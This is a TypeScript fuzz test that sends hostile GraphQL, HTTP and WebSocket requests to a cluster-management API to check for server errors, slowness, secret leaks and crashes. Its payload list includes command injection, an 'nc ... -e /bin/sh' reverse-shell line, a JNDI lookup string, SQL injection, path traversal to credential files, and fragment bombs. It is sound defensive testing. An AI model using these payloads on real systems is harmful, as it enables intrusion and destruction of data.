import { createHash } from 'node:crypto';
import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { type GraphQLInputType, getNullableType, isEnumType, isInputObjectType, isListType, isScalarType } from 'graphql';
import pg from 'pg';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import WebSocket from 'ws';
import { SHIPPED_RBAC, shippedIdentityKubeconfig } from '@ccos/api/data-access-kube/testing';
import { type KubeSim, startKubeSim } from '@ccos/tools/kube-sim';
import { type ApiProcess, startApiProcess } from '../support/api-process';
import { type RootField, emittedSchema, isSecretMarked, operationFor, rootFields, selectionOf, takesCredential } from '../support/schema-requests';
import { Random, type SampleContext, plausibleValue } from '../support/schema-values';

/**
 * Hostile requests, generated from the emitted schema and a fixed seed, against the built API on
 * a real Postgres database: every query, mutation and subscription, the agent's reportStep, the
 * artifact and diagnostics routes, as anonymous, VIEWER, OPERATOR, ADMIN and agent; fragment
 * bombs, huge documents, alias floods, deep nesting, batches, and hostile strings in every
 * argument. It prints one line, `fuzz: N requests, X 5xx, Y slow, Z leaks, W crashes`, and fails
 * unless X, Y, Z and W are 0 (slow: over 2 s among the others, and again when sent alone).
 * FUZZ_SEED=<n> reproduces (or varies) a run; FUZZ_TIMINGS=1 prints where the time went.
 */
const SEED = Number(process.env['FUZZ_SEED'] ?? 20251201);
const FIELD_REQUESTS = 2100;
const CONCURRENCY = 6;
const SLOW_MS = 2000;
/** A request that has not answered by then is given up (and counted slow and failed). */
const REQUEST_TIMEOUT_MS = 10_000;
/**
 * No new request starts after this, so a service that hangs still gets its report line. Every
 * probe is sent within about 45 s on a quiet machine; the rest of the margin is for a machine that
 * other test files share (with four files beside it, 2,067 of them went out in 100 s).
 */
const RUN_DEADLINE_MS = 170_000;

type Identity = 'anonymous' | 'VIEWER' | 'OPERATOR' | 'ADMIN' | 'agent';
const IDENTITIES: readonly Identity[] = ['anonymous', 'VIEWER', 'OPERATOR', 'ADMIN', 'agent'];

/** One request as sent: what it was (for the report), and how it is sent. */
interface Probe {
  readonly describe: string;
  readonly identity: Identity;
  /** Sends it; resolves with what came back. */
  readonly send: (tokens: Record<Identity, string | null>) => Promise<Answer>;
  /**
   * It carries a credential (a @secret argument): such operations may hash a password (64 MiB
   * scrypt), so each runs alone, as a person signing in would, and the fuzzer does not measure
   * its own CPU starvation of the service as slowness.
   */
  readonly credential?: boolean;
}

interface Answer {
  readonly status: number;
  readonly text: string;
  /** Subscriptions may stay silent: no time is measured then. */
  readonly silent?: boolean;
}

const HOSTILE_STRINGS: readonly string[] = [
  '$(touch /tmp/ccos-fuzz-pwned)', '`id`', '; rm -rf / #', '| nc 198.18.0.66 4444 -e /bin/sh', '&& reboot', `'"\\`, '\n/bin/sh -i',
  'a\u0000b', '\u0000', 'nul at end\u0000', '\u001b[2J\u001b[31mred', '\r\nSet-Cookie: x=1', '\u0007\u0008\u007f', 'tab\there',
  '\ud800', 'x\udfff', '\udbff\ud800', 'emoji 🚀 and 名前', '\u202eevil.exe', '\u200b\u200b', '\ufeffbom', 'e\u0301'.repeat(500),
  '%s%s%s%n', '{{7*7}}', '${jndi:ldap://198.18.0.66/a}', "' OR '1'='1", "'; DROP TABLE users; --", '../../../../etc/passwd', '..%2f..%2fetc%2fpasswd',
  '/dev/zero', 'C:\\Windows\\System32', '-1', '1e309', 'NaN', '0x7fffffff', '9'.repeat(400), '{"__proto__":{"admin":true}}',
  '00000000-0000-0000-0000-000000000000', '', '   ', '.', '-', 'A'.repeat(5000), 'https://user:pass@198.18.0.66:1/', 'file:///etc/shadow',
];

const WRONG_TYPES: readonly unknown[] = [0, -1, 2 ** 53, 1e308, 3.14, true, false, {}, [], [[]], { a: { b: {} } }, null, ['x'], { __proto__: { admin: true } }];

function deepList(depth: number): unknown {
  let value: unknown = 'leaf';
  for (let level = 0; level < depth; level++) {
    value = [value];
  }
  return value;
}

function deepObject(depth: number): Record<string, unknown> {
  let value: Record<string, unknown> = { leaf: 'x' };
  for (let level = 0; level < depth; level++) {
    value = { inner: value };
  }
  return value;
}

/** A hostile stand-in for a value of `type`: odd text, the wrong type, huge, or deeply nested. */
function hostile(random: Random, type: GraphQLInputType): unknown {
  const roll = random.next();
  if (roll < 0.45) {
    return random.pick(HOSTILE_STRINGS);
  }
  if (roll < 0.7) {
    return random.pick(WRONG_TYPES);
  }
  if (roll < 0.78) {
    return 'H'.repeat(random.chance(0.2) ? 400_000 : 20_000);
  }
  if (roll < 0.86) {
    return deepList(random.chance(0.5) ? 40 : 400);
  }
  if (roll < 0.92) {
    return deepObject(random.chance(0.5) ? 40 : 300);
  }
  if (roll < 0.96) {
    return Array.from({ length: 2000 }, (_, index) => `item-${index}`);
  }
  const nullable = getNullableType(type);
  return isEnumType(nullable) ? 'NOT_A_VALUE' : isScalarType(nullable) && nullable.name === 'Int' ? 2 ** 31 : null;
}

/** Requests run together, except those that must run alone: these wait for the others to finish, and hold new ones back. */
class ExclusiveGate {
  private running = 0;
  private exclusive: Promise<void> | null = null;
  private drained: (() => void) | null = null;

  async together<T>(work: () => Promise<T>): Promise<T> {
    while (this.exclusive) {
      await this.exclusive;
    }
    this.running += 1;
    try {
      return await work();
    } finally {
      this.running -= 1;
      if (this.running === 0) {
        this.drained?.();
      }
    }
  }

  async alone<T>(work: () => Promise<T>): Promise<T> {
    while (this.exclusive) {
      await this.exclusive;
    }
    let release = () => undefined as void;
    this.exclusive = new Promise<void>((resolve) => (release = resolve));
    try {
      if (this.running > 0) {
        await new Promise<void>((resolve) => (this.drained = resolve));
      }
      this.drained = null;
      return await work();
    } finally {
      this.exclusive = null;
      release();
    }
  }
}

describe('fuzz: hostile requests against the built API', () => {
  let api: ApiProcess;
  let sim: KubeSim;
  let artifactsDir: string;
  const tokens: Record<Identity, string | null> = { anonymous: null, VIEWER: null, OPERATOR: null, ADMIN: null, agent: null };
  const passwords: Partial<Record<Identity, string>> = {};
  let clusterId = '';
  let nodeId = '';
  let runId = '';

  beforeAll(async () => {
    artifactsDir = await mkdtemp(join(tmpdir(), 'ccos-fuzz-artifacts-'));
    await mkdir(join(artifactsDir, 'binary'), { recursive: true });
    await writeFile(join(artifactsDir, 'binary', 'kubelet'), Buffer.alloc(64 * 1024, 7));
    [api, sim] = await Promise.all([
      // Plain HTTP for the agent identity too: the fuzz is about what requests carry, not the channel (test/install/agent-channel.test.ts).
      startApiProcess({ env: { SSH_CONNECT_TIMEOUT_MS: '1000', ARTIFACTS_DIR: artifactsDir, AGENT_PLAIN_HTTP: 'allow' } }),
      startKubeSim({
        seed: SHIPPED_RBAC + '\n---\napiVersion: v1\nkind: Node\nmetadata: {name: fz-worker, labels: {node-role.kubernetes.io/worker: ""}}\nstatus: {conditions: [{type: Ready, status: "True"}], addresses: [{type: InternalIP, address: 198.18.0.77}]}\n',
      }),
    ]);
    const admin = await api.login();
    await Promise.all(
      (['VIEWER', 'OPERATOR', 'ADMIN'] as const).map(async (role) => {
        passwords[role] = `fz-${role.toLowerCase()}-password-${SEED}`;
        const created = await api.gql('mutation($i: CreateUserInput!) { createUser(input: $i) { id } }', { i: { username: `fz-${role.toLowerCase()}`, password: passwords[role], role } }, admin);
        expect(created.errors).toBeUndefined();
        tokens[role] = await api.login(`fz-${role.toLowerCase()}`, passwords[role]);
      }),
    );
    const registered = await api.gql<{ registerCluster: { id: string } }>(
      'mutation($i: RegisterClusterInput!) { registerCluster(input: $i) { id } }',
      { i: { name: 'fz-sim', apiServerUrl: sim.url, vip: '198.18.0.2', kubeconfig: shippedIdentityKubeconfig(sim) } },
      admin,
    );
    clusterId = registered.data?.registerCluster.id ?? '';
    expect(clusterId).not.toBe('');
    // The inventory sync discovers the simulator's worker.
    for (const deadline = Date.now() + 20_000; nodeId === '' && Date.now() < deadline; await new Promise((wake) => setTimeout(wake, 200))) {
      const listed = await api.gql<{ nodes: Array<{ id: string }> }>('query($c: ID!) { nodes(clusterId: $c) { id } }', { c: clusterId }, admin);
      nodeId = listed.data?.nodes[0]?.id ?? '';
    }
    expect(nodeId).not.toBe('');
    // An agent of a running install: its token is what an installed host would hold.
    const runHex = createHash('sha256').update(`run-${SEED}`).digest('hex');
    runId = `${runHex.slice(0, 8)}-${runHex.slice(8, 12)}-4${runHex.slice(13, 16)}-8${runHex.slice(17, 20)}-${runHex.slice(20, 32)}`;
    const agentToken = `agt_fuzz${createHash('sha256').update(String(SEED)).digest('base64url')}`;
    const client = new pg.Client({ connectionString: api.database?.url });
    await client.connect();
    // As the service creates runs: the agent token ends with the run's deadline.
    await client.query(
      `INSERT INTO install_runs (id, node_id, status, requested_by, agent_token_hash, deadline_at, agent_token_expires_at, agent_launched_at) VALUES ($1, $2, 'RUNNING', 'fz-operator', $3, now() + interval '2 hours', now() + interval '2 hours', now())`,
      [runId, nodeId, createHash('sha256').update(agentToken).digest('hex')],
    );
    await client.end();
    tokens.agent = agentToken;
    // The first sign-in of an unknown user also computes the service's decoy hash (a second scrypt); once per process.
    await api.gql('mutation { login(username: "fz-nobody", password: "fz-warm-up-password") { token } }');
  }, 120_000);

  afterAll(async () => {
    await api?.stop().catch((error: unknown) => console.error(String(error)));
    await sim?.stop();
    await rm(artifactsDir, { recursive: true, force: true });
  });

  it('answers every request without a 5xx, within 2 s, without repeating a secret, and keeps running', async () => {
    console.error(`fuzz seed: ${SEED} (FUZZ_SEED=<n> to change)`);
    const random = new Random(SEED);
    const schema = emittedSchema();
    const roots = rootFields(schema);
    const secrets: string[] = [];
    let secretCount = 0;
    let seq = 1;
    /** A uuid from the seed, so a run can be repeated request for request. */
    const unknownUuid = () => {
      const hex = Array.from({ length: 32 }, () => '0123456789abcdef'[random.int(16)]).join('');
      return `${hex.slice(0, 8)}-${hex.slice(8, 12)}-4${hex.slice(13, 16)}-8${hex.slice(17, 20)}-${hex.slice(20)}`;
    };
    const ids = () => random.pick([clusterId, nodeId, runId, unknownUuid(), 'not-a-uuid', '1', '']);
    const idFor = (name: string) => (random.chance(0.75) ? (name === 'clusterId' ? clusterId : name === 'nodeId' ? nodeId : name === 'runId' ? runId : ids()) : ids());

    /** A secret that can be recognised anywhere: a marker no request uses elsewhere. */
    const secretFor = () => {
      const marker = `fzs${SEED}k${(secretCount++).toString(36)}${random.word(8)}`;
      secrets.push(marker);
      return random.chance(0.2) ? `${marker}${random.pick(['\u0000', '\ud800', '\n', ' $(id)', 'é'])}` : marker;
    };
    /** Plausible values with hostile leaves and structures; the secret marker survives every change. */
    const sampleContext = (hostility: number): SampleContext & { mutate: (value: unknown, type: GraphQLInputType, secret: boolean) => unknown } => ({
      random,
      idFor,
      secretFor,
      apiServerUrl: random.chance(0.9) ? sim.url : random.pick(HOSTILE_STRINGS),
      kubeconfigWith: (token) => sim.kubeconfigFor({ token }),
      mutate: (value, type, secret) => {
        if (!random.chance(hostility)) {
          return value;
        }
        if (secret && typeof value === 'string') {
          return random.pick([[value], { value }, `${value}${random.pick(HOSTILE_STRINGS)}`, `${random.pick(HOSTILE_STRINGS)}${value}`]);
        }
        return hostile(random, type);
      },
    });
    const withHostility = (value: unknown, type: GraphQLInputType, secret: boolean, context: ReturnType<typeof sampleContext>, depth = 0): unknown => {
      const nullable = getNullableType(type);
      if (isListType(nullable) && Array.isArray(value)) {
        return context.mutate(value.map((item) => withHostility(item, nullable.ofType, secret, context, depth + 1)), type, false);
      }
      if (isInputObjectType(nullable) && value && typeof value === 'object' && !Array.isArray(value)) {
        const fields = nullable.getFields();
        const inner = Object.fromEntries(Object.entries(value as Record<string, unknown>).map(([key, item]) => [key, fields[key] ? withHostility(item, fields[key].type, isSecretMarked(fields[key]), context, depth + 1) : item]));
        if (random.chance(0.05)) {
          inner[`unknown${random.word(3)}`] = random.pick(HOSTILE_STRINGS);
        }
        return context.mutate(inner, type, false);
      }
      return context.mutate(value, type, secret);
    };

    const http = async (path: string, init: RequestInit & { headers?: Record<string, string> }, identity: Identity, tokenSet: Record<Identity, string | null>): Promise<Answer> => {
      const token = tokenSet[identity];
      const response = await fetch(`${api.url}${path}`, {
        ...init,
        headers: { ...(init.headers ?? {}), ...(token && !init.headers?.['authorization'] ? { authorization: `Bearer ${token}` } : {}) },
        signal: AbortSignal.timeout(REQUEST_TIMEOUT_MS),
      });
      return { status: response.status, text: await response.text() };
    };
    const postGraphql = (body: string, identity: Identity, headers: Record<string, string> = { 'content-type': 'application/json' }) => (tokenSet: Record<Identity, string | null>) =>
      http('/graphql', { method: 'POST', headers, body }, identity, tokenSet);

    // ---- every root field, with generated arguments, as every identity ----
    const probes: Probe[] = [];
    const covered = new Set<string>();
    const fieldRoots = roots.filter((root) => root.kind !== 'subscription');
    // Fields that take a credential get an eighth of the turns: a well-formed attempt may cost a 64 MiB scrypt
    // (test/api/secrets.test.ts sends every @secret position many times over).
    const turns = fieldRoots.flatMap((root) => (takesCredential(root) ? [root] : Array.from({ length: 8 }, () => root)));
    for (let index = 0; index < FIELD_REQUESTS; index++) {
      const root: RootField = turns[(index * 7919) % turns.length] as RootField;
      covered.add(`${root.kind} ${root.field.name}`);
      const identity: Identity = root.field.name === 'reportStep' || root.field.name === 'agentRun' ? (random.chance(0.7) ? 'agent' : random.pick(IDENTITIES)) : random.pick(IDENTITIES);
      const hostility = random.pick([0, 0.1, 0.3, 0.6]);
      const context = sampleContext(hostility);
      const asLiterals = random.chance(0.3);
      const args = root.field.args
        .filter(() => !random.chance(hostility * 0.2))
        .map((definition) => {
          const position = `${root.kind === 'query' ? 'Query' : 'Mutation'}.${root.field.name}(${definition.name})`;
          let value = plausibleValue(definition, position, context);
          if (root.field.name === 'reportStep' && value && typeof value === 'object' && !Array.isArray(value)) {
            value = { ...(value as Record<string, unknown>), runId: random.chance(0.8) ? runId : ids(), seq: seq++, detail: random.chance(0.5) ? { outputTail: random.pick(HOSTILE_STRINGS), nested: deepObject(random.int(50)) } : (value as Record<string, unknown>)['detail'] };
          }
          return { definition, value: withHostility(value, definition.type, isSecretMarked(definition), context), asLiteral: asLiterals };
        });
      const selection = random.chance(0.1)
        ? `{ ${Array.from({ length: 70 }, (_, alias) => `a${alias}: __typename`).join(' ')} }`
        : random.chance(0.05)
          ? '{ notAField __typename }'
          : selectionOf(root.field.type, random.int(3));
      const { query, variables } = operationFor(root, args, selection);
      let body: string;
      try {
        body = JSON.stringify({ query, variables });
      } catch {
        body = JSON.stringify({ query, variables: {} });
      }
      probes.push({
        describe: `${identity} ${root.kind} ${root.field.name} (hostility ${hostility}${asLiterals ? ', literals' : ''})`,
        identity,
        credential: takesCredential(root),
        send: postGraphql(body, identity),
      });
    }

    // ---- documents that cost a parser or a validator dearly ----
    const nestedFragments = (count: number, aliased: boolean) =>
      `{ me { ...F0 } } ${Array.from({ length: count }, (_, i) =>
        i === count - 1 ? `fragment F${i} on User { id }` : aliased ? `fragment F${i} on User { a${i}: id ...F${i + 1} b${i}: username ...F${i + 1} }` : `fragment F${i} on User { ...F${i + 1} ...F${i + 1} }`,
      ).join(' ')}`;
    const documents: Array<[string, () => string]> = [
      ['23 nested fragments', () => JSON.stringify({ query: nestedFragments(23, false) })],
      ['40 nested fragments', () => JSON.stringify({ query: nestedFragments(40, false) })],
      ['300 nested fragments', () => JSON.stringify({ query: nestedFragments(300, false) })],
      ['nested aliased fragments', () => JSON.stringify({ query: nestedFragments(60, true) })],
      ['20,000 repeated fields', () => JSON.stringify({ query: `{ me { ${'id '.repeat(20_000)}} }` })],
      ['900 KB of comments', () => JSON.stringify({ query: `{ __typename } #${'x'.repeat(900_000)}` })],
      ['2 MB body', () => JSON.stringify({ query: `{ __typename } #${'x'.repeat(2_000_000)}` })],
      ['900 KB string literal', () => JSON.stringify({ query: `{ node(id: "${'9'.repeat(900_000)}") { id } }` })],
      ['2,000 aliases', () => JSON.stringify({ query: `{ ${Array.from({ length: 2000 }, (_, i) => `a${i}: __typename`).join(' ')} }` })],
      ['600 aliases of a list', () => JSON.stringify({ query: `{ ${Array.from({ length: 600 }, (_, i) => `a${i}: clusters { id name }`).join(' ')} }` })],
      ['5,000 directives', () => JSON.stringify({ query: `{ __typename ${'@skip(if: false) '.repeat(5000)}}` })],
      ['deep selection nesting', () => JSON.stringify({ query: `${'{ me '.repeat(3000)}${'}'.repeat(3000)}` })],
      ['1,000 operations', () => JSON.stringify({ query: Array.from({ length: 1000 }, (_, i) => `query Q${i} { __typename }`).join(' '), operationName: 'Q999' })],
      ['2,000 variables', () => JSON.stringify({ query: `query(${Array.from({ length: 2000 }, (_, i) => `$v${i}: String`).join(', ')}) { __typename }` })],
      ['introspection', () => JSON.stringify({ query: '{ __schema { types { name fields { name args { name type { name } } } } } }' })],
      ['hidden introspection', () => JSON.stringify({ query: 'query { ...Q } fragment Q on Query { __type(name: "Mutation") { fields { name } } }' })],
      ['batched array', () => JSON.stringify(Array.from({ length: 100 }, () => ({ query: '{ me { id } }' })))],
      ['deeply nested variables', () => `{"query":"query($v: [String]) { __typename }","variables":{"v":${'['.repeat(100_000)}${']'.repeat(100_000)}}}`],
      ['deep JSON detail', () => `{"query":"mutation($i: ReportStepInput!) { reportStep(input: $i) { accepted } }","variables":{"i":{"runId":"${runId}","seq":1,"step":"PREFLIGHT","status":"PROGRESS","occurredAt":"${new Date().toISOString()}","detail":${'{"a":'.repeat(5000)}1${'}'.repeat(5000)}}}}`],
      ['not JSON', () => '{"query": "{ me { id } "'],
      ['mutation in a GET', () => ''],
      ['text/plain body', () => JSON.stringify({ query: '{ me { id } }' })],
    ];
    for (let round = 0; round < 5; round++) {
      for (const [name, build] of documents) {
        const identity = random.pick(IDENTITIES);
        if (name === 'mutation in a GET') {
          probes.push({ describe: `${identity} ${name}`, identity, send: (tokenSet) => http(`/graphql?query=${encodeURIComponent('mutation { logout }')}`, { method: 'GET', headers: { 'apollo-require-preflight': 'true' } }, identity, tokenSet) });
          continue;
        }
        const headers = name === 'text/plain body' ? { 'content-type': 'text/plain' } : { 'content-type': 'application/json' };
        probes.push({ describe: `${identity} ${name}`, identity, send: (tokenSet) => postGraphql(build(), identity, headers)(tokenSet) });
      }
    }

    // ---- the agent's, artifact and diagnostics routes ----
    const artifactPaths = ['/artifacts/manifest', '/artifacts/binary/kubelet', '/artifacts/binary/..%2f..%2f..%2fetc%2fpasswd', '/artifacts/%2e%2e/%2e%2e/secret.key', '/artifacts/binary/kubelet%00.txt', `/artifacts/binary/${'a'.repeat(4000)}`, '/artifacts/rpm/', '/artifacts/unit/../../secret.key'];
    const ranges = [undefined, 'bytes=0-10', 'bytes=-1', 'bytes=99999999999999999999-', 'bytes=5-1', 'bytes=0-0,1-1,2-2', 'garbage', `bytes=${'0-1,'.repeat(500)}`];
    for (let index = 0; index < 250; index++) {
      const identity = random.pick(IDENTITIES);
      const path = random.pick(artifactPaths);
      const range = random.pick(ranges);
      const method = random.chance(0.2) ? 'HEAD' : 'GET';
      probes.push({ describe: `${identity} ${method} ${path.slice(0, 60)} range ${range?.slice(0, 20)}`, identity, send: (tokenSet) => http(path, { method, headers: range ? { range, 'if-range': random.pick(['"x"', 'Wed, 21 Oct 2015 07:28:00 GMT', '']) } : {} }, identity, tokenSet) });
    }
    const bundles: Array<[string, () => Buffer]> = [
      ['a gzip bundle', () => gzipSync(Buffer.from('summary.json\n{"token":"abcdef.0123456789abcdef"}'))],
      ['gzip magic then garbage', () => Buffer.concat([Buffer.from([0x1f, 0x8b]), Buffer.alloc(3000, 0)])],
      ['no gzip', () => Buffer.from('plain text')],
      ['empty', () => Buffer.alloc(0)],
      ['512 KiB of zeros', () => Buffer.alloc(512 * 1024)],
    ];
    for (let index = 0; index < 100; index++) {
      const identity = random.pick(IDENTITIES);
      const [name, build] = random.pick(bundles);
      const authorization = random.pick([undefined, 'Bearer agt_not-a-real-token', `Bearer ${'x'.repeat(3000)}`, 'Basic Zm9vOmJhcg==', 'Bearer\u0000']);
      probes.push({
        describe: `${identity} POST /agent/diagnostics ${name}`,
        identity,
        send: (tokenSet) =>
          http('/agent/diagnostics', { method: 'POST', headers: { 'content-type': random.pick(['application/gzip', 'application/json', 'text/plain']), ...(authorization && identity !== 'agent' ? { authorization: authorization.replace('\u0000', '') } : {}) }, body: build() }, identity, tokenSet),
      });
      const download = random.pick([runId, unknownUuid(), 'not-a-uuid', '..%2f..%2fsecret.key', '%00']);
      probes.push({ describe: `${identity} GET diagnostics of ${download}`, identity, send: (tokenSet) => http(`/api/install-runs/${download}/diagnostics.tar.gz`, { method: 'GET' }, identity, tokenSet) });
    }

    // ---- subscriptions over one WebSocket per identity, and a flood on one connection ----
    const subscriptionRoots = roots.filter((root) => root.kind === 'subscription');
    const wsProbe = (identity: Identity, messages: (next: () => string) => string[], describe: string, expectFirst: boolean): Probe => ({
      describe,
      identity,
      send: (tokenSet) =>
        new Promise<Answer>((resolve) => {
          const socket = new WebSocket(`${api.url.replace(/^http/, 'ws')}/graphql`, 'graphql-transport-ws');
          const received: string[] = [];
          let answered = false;
          let ids = 0;
          const finish = (silent: boolean) => {
            if (!answered) {
              answered = true;
              clearTimeout(timer);
              socket.terminate();
              resolve({ status: 200, text: received.join('\n'), silent });
            }
          };
          const timer = setTimeout(() => finish(true), 1500);
          socket.on('open', () => socket.send(JSON.stringify({ type: 'connection_init', payload: tokenSet[identity] ? { authorization: `Bearer ${tokenSet[identity]}` } : {} })));
          socket.on('message', (data) => {
            const text = data.toString();
            received.push(text);
            const message = JSON.parse(text) as { type: string };
            if (message.type === 'connection_ack') {
              for (const payload of messages(() => String(ids++))) {
                socket.send(payload);
              }
            } else if (message.type !== 'ping' && message.type !== 'pong' && expectFirst) {
              finish(false);
            }
          });
          socket.on('close', (code, reason) => {
            received.push(`close ${code} ${reason.toString()}`);
            finish(false);
          });
          socket.on('error', () => finish(false));
        }),
    });
    for (let index = 0; index < 150; index++) {
      const identity = random.pick(IDENTITIES);
      const root = subscriptionRoots[index % subscriptionRoots.length] as RootField;
      covered.add(`${root.kind} ${root.field.name}`);
      const context = sampleContext(random.pick([0, 0.3]));
      const args = root.field.args.map((definition) => ({ definition, value: withHostility(plausibleValue(definition, `Subscription.${root.field.name}(${definition.name})`, context), definition.type, false, context), asLiteral: random.chance(0.3) }));
      const { query, variables } = operationFor(root, args, selectionOf(root.field.type, random.int(2)));
      probes.push(wsProbe(identity, (next) => [JSON.stringify({ id: next(), type: 'subscribe', payload: { query, variables } })], `${identity} subscription ${root.field.name}`, true));
    }
    const flood = (next: () => string) =>
      Array.from({ length: 300 }, () => JSON.stringify({ id: next(), type: 'subscribe', payload: { query: 'subscription($c: ID!) { nodeChanged(clusterId: $c) { nodeId } }', variables: { c: clusterId } } }));
    probes.push(wsProbe('VIEWER', flood, 'VIEWER 300 subscriptions on one WebSocket', false));
    probes.push(wsProbe('ADMIN', (next) => [JSON.stringify({ id: next(), type: 'subscribe', payload: { query: 'mutation { logout }' } })], 'ADMIN mutation over the WebSocket', true));
    probes.push(wsProbe('ADMIN', () => ['{not json', JSON.stringify({ type: 'subscribe' }), JSON.stringify({ id: '1', type: 'subscribe', payload: { query: `{ me { ${'id '.repeat(20_000)}} }` } })], 'ADMIN malformed WebSocket messages', false));

    // ---- run them, a few at a time, in a fixed order, watching /healthz ----
    const failures = { fiveXx: [] as string[], slow: [] as string[], leaks: [] as string[], crashes: [] as string[] };
    const responses: string[] = [];
    let requests = 0;
    let healthDown = false;
    const health = setInterval(() => {
      void fetch(`${api.url}/healthz`, { signal: AbortSignal.timeout(SLOW_MS) }).then(
        (response) => {
          healthDown = !response.ok;
        },
        (error: unknown) => {
          if (!healthDown) {
            failures.crashes.push(`/healthz did not answer within ${SLOW_MS} ms after ${requests} requests: ${String(error)}`);
          }
          healthDown = true;
        },
      );
    }, 1000);
    let completed = 0;
    const refreshSessions = async () => {
      for (const identity of ['VIEWER', 'OPERATOR', 'ADMIN'] as const) {
        const me = await api.gql('{ me { id } }', {}, tokens[identity]);
        const password = passwords[identity];
        if (me.errors && password) {
          tokens[identity] = await api.login(`fz-${identity.toLowerCase()}`, password).catch(() => tokens[identity]);
        }
      }
    };
    const timings: Array<[number, string]> = [];
    /** Probes slower than SLOW_MS among the others: judged again alone after the run. */
    const slowAmongOthers: Array<{ readonly probe: Probe; readonly ms: number }> = [];
    let cursor = 0;
    const gate = new ExclusiveGate();
    const deadline = Date.now() + RUN_DEADLINE_MS;
    const worker = async () => {
      while (cursor < probes.length && Date.now() < deadline) {
        const probe = probes[cursor++] as Probe;
        let started = performance.now();
        let answer: Answer;
        const send = async (): Promise<Answer> => {
          started = performance.now();
          try {
            return await probe.send(tokens);
          } catch (error) {
            return { status: 0, text: String(error) };
          }
        };
        if (probe.credential) {
          const answered = await gate.alone(() => (Date.now() < deadline ? send() : Promise.resolve(null)));
          if (!answered) {
            continue;
          }
          answer = answered;
        } else {
          answer = await gate.together(send);
        }
        const ms = performance.now() - started;
        if (process.env['FUZZ_TIMINGS'] && !answer.silent) {
          timings.push([ms, probe.describe]);
        }
        requests += probe.describe.includes('300 subscriptions') ? 300 : 1;
        responses.push(answer.text);
        if (answer.status >= 500 || answer.status === 0 || answer.text.includes('"code":"INTERNAL_SERVER_ERROR"')) {
          const at = Math.max(0, answer.text.indexOf('INTERNAL_SERVER_ERROR') - 300);
          failures.fiveXx.push(`${probe.describe}: HTTP ${answer.status} …${answer.text.slice(at, at + 600)}`);
        }
        if (!answer.silent && ms > SLOW_MS) {
          slowAmongOthers.push({ probe, ms });
        }
        if (!api.running() && failures.crashes.length === 0) {
          failures.crashes.push(`the API process exited after ${probe.describe}:\n${api.output().slice(-2000)}`);
        }
        // Some operations end the caller's sessions (logout, revoking sessions): identities sign in again now and then.
        if (++completed % 150 === 0) {
          await refreshSessions();
        }
      }
    };
    await Promise.all(Array.from({ length: CONCURRENCY }, worker));
    // A request is slow when it is slow again alone: among five others on a machine that other test
    // files share, one of 3,000 now and then waits on the CPU, not on the service. Each is sent again
    // by itself (the fuzz is deterministic, so what made it slow is sent again too).
    // An operation that takes a credential hashes it on purpose (scrypt, 64 MiB): it is judged
    // against a valid sign-in measured just before it, so the fuzz finds inputs that make it slower,
    // not the cost of the hash on a busy machine.
    const timed = async (work: () => Promise<unknown>): Promise<number> => {
      const started = performance.now();
      await work().catch(() => undefined);
      return performance.now() - started;
    };
    for (const { probe, ms } of slowAmongOthers) {
      const reference = probe.credential ? await timed(() => api.login('fz-viewer', passwords.VIEWER ?? '')) : 0;
      const alone = await timed(() => probe.send(tokens));
      if (alone > reference + SLOW_MS) {
        failures.slow.push(`${probe.describe}: ${Math.round(ms)} ms among others, ${Math.round(alone)} ms alone${probe.credential ? ` (a valid sign-in: ${Math.round(reference)} ms)` : ''}`);
      }
    }
    if (slowAmongOthers.length > 0) {
      console.log(`fuzz: ${slowAmongOthers.length} request(s) slower than ${SLOW_MS} ms among the others, sent again alone: ${slowAmongOthers.map(({ probe, ms }) => `${probe.describe} (${Math.round(ms)} ms)`).join('; ')}`);
    }
    clearInterval(health);
    const healthy = await fetch(`${api.url}/healthz`, { signal: AbortSignal.timeout(SLOW_MS) }).then((response) => response.ok, () => false);
    if (!healthy || !api.running()) {
      failures.crashes.push('the API does not answer /healthz after the run');
    }

    // ---- leaks: a submitted secret in any response, log line or stored audit entry ----
    const client = new pg.Client({ connectionString: api.database?.url });
    await client.connect();
    const audit = JSON.stringify((await client.query('SELECT * FROM audit_log')).rows);
    await client.end();
    const log = api.output();
    const answered = responses.join('\n');
    for (const secret of secrets) {
      const where = [answered.includes(secret) && 'a response', log.includes(secret) && 'the log', audit.includes(secret) && 'an audit entry'].filter(Boolean);
      if (where.length > 0) {
        failures.leaks.push(`secret ${secret} in ${where.join(', ')}`);
      }
    }

    if (process.env['FUZZ_TIMINGS']) {
      const families = new Map<string, number>();
      for (const [ms, what] of timings) {
        const family = what.replace(/^\S+ /, '').replace(/ \(hostility.*$/, '');
        families.set(family, (families.get(family) ?? 0) + ms);
      }
      console.error([...families].sort((a, b) => b[1] - a[1]).slice(0, 25).map(([family, ms]) => `${Math.round(ms)} ms in all: ${family}`).join('\n'));
      console.error(timings.sort((a, b) => b[0] - a[0]).slice(0, 15).map(([ms, what]) => `${Math.round(ms)} ms ${what}`).join('\n'));
    }
    console.log(`fuzz: ${requests} requests, ${failures.fiveXx.length} 5xx, ${failures.slow.length} slow, ${failures.leaks.length} leaks, ${failures.crashes.length} crashes`);
    const report = Object.entries(failures)
      .filter(([, found]) => found.length > 0)
      .map(([kind, found]) => `${kind} (seed ${SEED}):\n  ${found.slice(0, 10).join('\n  ')}`)
      .join('\n');
    expect([...covered].sort()).toEqual(roots.map((root) => `${root.kind} ${root.field.name}`).sort());
    expect(secrets.length).toBeGreaterThan(50);
    expect(requests).toBeGreaterThanOrEqual(3000);
    expect(report).toBe('');
  }, 300_000);
});
